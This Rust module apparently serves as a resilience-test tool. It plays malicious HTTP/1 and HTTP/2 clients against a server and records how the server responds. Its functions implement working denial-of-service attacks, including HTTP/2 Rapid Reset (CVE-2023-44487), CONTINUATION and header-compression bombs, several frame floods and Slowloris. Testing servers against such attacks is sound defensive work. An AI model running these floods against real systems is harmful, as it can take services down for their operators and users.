//! Clients that mean harm, by raw bytes: what the server does about it is what they print.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use clap::{Args, ValueEnum};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::task::JoinSet;
use tokio::time::timeout;

use super::frames::{self, flag, kind};
use super::io::connect;

/// What harm.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
enum Kind {
    /// HTTP/2: a request, and its reset at once, over and over (CVE-2023-44487).
    RapidReset,
    /// HTTP/2: fields that never end.
    Continuation,
    /// HTTP/2: few bytes that unpack to many.
    HeaderBomb,
    /// HTTP/2: pings.
    Ping,
    /// HTTP/2: settings.
    Settings,
    /// HTTP/2: frames of data with nothing in them.
    EmptyData,
    /// HTTP/1: fields without end.
    Fields,
    /// HTTP/1: one field without end.
    Field,
    /// HTTP/1: a head of which a byte comes each 100 ms.
    Slowloris,
}

/// How.
#[derive(Args, Debug, Clone)]
pub(crate) struct Options {
    /// Whom.
    #[arg(long)]
    connect: SocketAddr,
    /// What.
    #[arg(long, value_enum)]
    kind: Kind,
    /// Frames, fields or connections.
    #[arg(long, default_value_t = 10_000)]
    count: usize,
    /// How long to wait for the other end's reaction, in seconds.
    #[arg(long, default_value_t = 30)]
    patience: u64,
}

/// Does it, and says what came of it: how much was taken, and how it ended.
pub(crate) async fn run(options: Options) -> Result<()> {
    super::allow_files()?;
    let said = match options.kind {
        Kind::Slowloris => slowloris(&options).await?,
        Kind::Fields | Kind::Field => lines(&options).await?,
        Kind::RapidReset
        | Kind::Continuation
        | Kind::HeaderBomb
        | Kind::Ping
        | Kind::Settings
        | Kind::EmptyData => storm(&options).await?,
    };
    super::say(&said);
    Ok(())
}

/// Sends frames until they are all sent, or the other end takes no more.
async fn storm(options: &Options) -> Result<Value> {
    let began = Instant::now();
    let (receive, mut send) = connect(options.connect).await?.into_split();
    let reader = tokio::spawn(read_frames(receive));
    let mut out = frames::PREFACE.to_vec();
    frames::frame(&mut out, kind::SETTINGS, 0, 0, &[]);
    let mut sent = 0;
    for number in 0..options.count {
        harm(&mut out, options.kind, number);
        if out.len() >= 16 << 10 || number + 1 == options.count {
            if send.write_all(&out).await.is_err() || reader.is_finished() {
                break;
            }
            out.clear();
        }
        sent = number + 1;
    }
    // A ping that is answered shows that all before it was taken.
    if send.write_all(&pinged()).await.is_err() {
        sent = sent.min(options.count - 1);
    }
    let patience = Duration::from_secs(options.patience);
    let heard = timeout(patience, reader).await;
    let took = began.elapsed().as_secs_f64();
    Ok(match heard {
        Ok(heard) => {
            let heard = heard.context("a task panicked")?;
            json!({"sent": sent, "closed": heard.closed, "goaway": heard.goaway, "answers": heard.answers,
                "resets": heard.resets, "alive": heard.alive, "seconds": took})
        }
        Err(_) => json!({"sent": sent, "closed": false, "goaway": null, "seconds": took}),
    })
}

fn pinged() -> Vec<u8> {
    let mut out = Vec::new();
    frames::frame(&mut out, kind::PING, 0, 0, b"the last");
    out
}

/// Adds the frames of one blow.
fn harm(out: &mut Vec<u8>, kind: Kind, number: usize) {
    let stream = u32::try_from(number * 2 + 1).unwrap_or(u32::MAX >> 1);
    let whole = flag::END_HEADERS | flag::END_STREAM;
    match kind {
        Kind::RapidReset => {
            frames::frame(out, kind::HEADERS, whole, stream, &frames::get());
            frames::frame(out, kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        }
        Kind::Continuation if number == 0 => {
            frames::frame(out, kind::HEADERS, flag::END_STREAM, 1, &frames::get());
        }
        Kind::Continuation => {
            // A literal field, not kept: `x: yyy..`.
            let field = [&[0, 1, b'x', 126][..], &[b'y'; 126]].concat();
            frames::frame(out, kind::CONTINUATION, 0, 1, &field.repeat(8));
        }
        Kind::HeaderBomb => {
            let mut block = frames::get();
            // One field of 3 kB, kept; then named 4,000 times by a byte each.
            block.extend_from_slice(&[0x40, 1, b'x', 0x7f]);
            let mut left = 3000 - 127;
            while left >= 128 {
                block.push(u8::try_from(left % 128).unwrap_or(0) | 128);
                left /= 128;
            }
            block.push(u8::try_from(left).unwrap_or(0));
            block.extend_from_slice(&[b'y'; 3000]);
            block.extend_from_slice(&[0x80 | 62; 4000]);
            frames::frame(out, kind::HEADERS, whole, stream, &block);
        }
        Kind::Ping => frames::frame(out, kind::PING, 0, 0, &number.to_be_bytes()),
        Kind::Settings => frames::frame(out, kind::SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
        Kind::EmptyData if number == 0 => {
            frames::frame(out, kind::HEADERS, flag::END_HEADERS, 1, &frames::get());
        }
        Kind::EmptyData => frames::frame(out, kind::DATA, 0, 1, &[]),
        Kind::Fields | Kind::Field | Kind::Slowloris => {}
    }
}

#[derive(Default)]
struct Heard {
    closed: bool,
    goaway: Option<u32>,
    answers: u64,
    resets: u64,
    /// Whether the last ping was answered.
    alive: bool,
}

/// Reads frames until the connection ends or the last ping is answered.
async fn read_frames(mut from: OwnedReadHalf) -> Heard {
    let mut heard = Heard::default();
    let mut head = [0; 9];
    let mut payload = Vec::new();
    loop {
        if from.read_exact(&mut head).await.is_err() {
            heard.closed = true;
            return heard;
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        payload.resize(usize::try_from(length).unwrap_or(0), 0);
        if from.read_exact(&mut payload).await.is_err() {
            heard.closed = true;
            return heard;
        }
        match head[3] {
            kind::GOAWAY => {
                let code = payload.get(4..8).and_then(|code| code.try_into().ok());
                heard.goaway = code.map(u32::from_be_bytes);
            }
            kind::HEADERS => heard.answers += 1,
            kind::RST_STREAM => heard.resets += 1,
            kind::PING if payload == b"the last" => {
                heard.alive = true;
                return heard;
            }
            _ => {}
        }
    }
}

/// Sends a head of HTTP/1 that is too long, and reads what comes.
async fn lines(options: &Options) -> Result<Value> {
    let (mut receive, mut send) = connect(options.connect).await?.into_split();
    let patience = Duration::from_secs(options.patience);
    let reading = tokio::spawn(async move {
        let mut text = Vec::new();
        let ended = timeout(patience, receive.read_to_end(&mut text)).await;
        (text, ended.is_ok())
    });
    let mut sent = 0;
    let mut out = b"GET / HTTP/1.1\r\nHost: service\r\n".to_vec();
    if options.kind == Kind::Field {
        out.extend_from_slice(b"X: ");
    }
    for number in 0..options.count {
        if options.kind == Kind::Fields {
            out.extend_from_slice(format!("X-{number}: y\r\n").as_bytes());
        } else {
            out.extend_from_slice(&[b'y'; 64]);
        }
        if send.write_all(&out).await.is_err() {
            break;
        }
        out.clear();
        sent = number + 1;
    }
    let (text, closed) = reading.await.context("a task panicked")?;
    let text = String::from_utf8_lossy(&text);
    Ok(json!({"sent": sent, "status": text.split(' ').nth(1), "closed": closed}))
}

/// Keeps connections busy with as little as can be, and says how many were ended after how long.
async fn slowloris(options: &Options) -> Result<Value> {
    let mut tasks = JoinSet::new();
    for _ in 0..options.count {
        let stream = connect(options.connect).await?;
        tasks.spawn(drip(stream, Duration::from_secs(options.patience)));
    }
    let (mut ended, mut told, mut longest) = (0, 0, 0.0_f64);
    while let Some(done) = tasks.join_next().await {
        let (took, status) = done.context("a task panicked")?;
        if let Some(took) = took {
            ended += 1;
            longest = longest.max(took.as_secs_f64());
        }
        told += u64::from(status.starts_with("HTTP/1.1 408"));
    }
    Ok(json!({"connections": options.count, "ended": ended, "told": told, "seconds": longest}))
}

/// Returns after how long the other end closed, if it did, and what it said.
async fn drip(stream: TcpStream, patience: Duration) -> (Option<Duration>, String) {
    let began = Instant::now();
    let (mut receive, mut send) = stream.into_split();
    let mut text = Vec::new();
    let head = b"GET / HTTP/1.1\r\nHost: service\r\nX-Slow: ".iter();
    let mut head = head.chain(std::iter::repeat(&b'z'));
    while began.elapsed() < patience {
        let byte = head.next().copied().unwrap_or(b'z');
        // What fails to be sent shows in reading.
        let _sent = send.write_all(&[byte]).await;
        let reading = timeout(Duration::from_millis(100), receive.read_buf(&mut text));
        if let Ok(Ok(0) | Err(_)) = reading.await {
            let text = String::from_utf8_lossy(&text).into_owned();
            return (Some(began.elapsed()), text);
        }
    }
    (None, String::from_utf8_lossy(&text).into_owned())
}
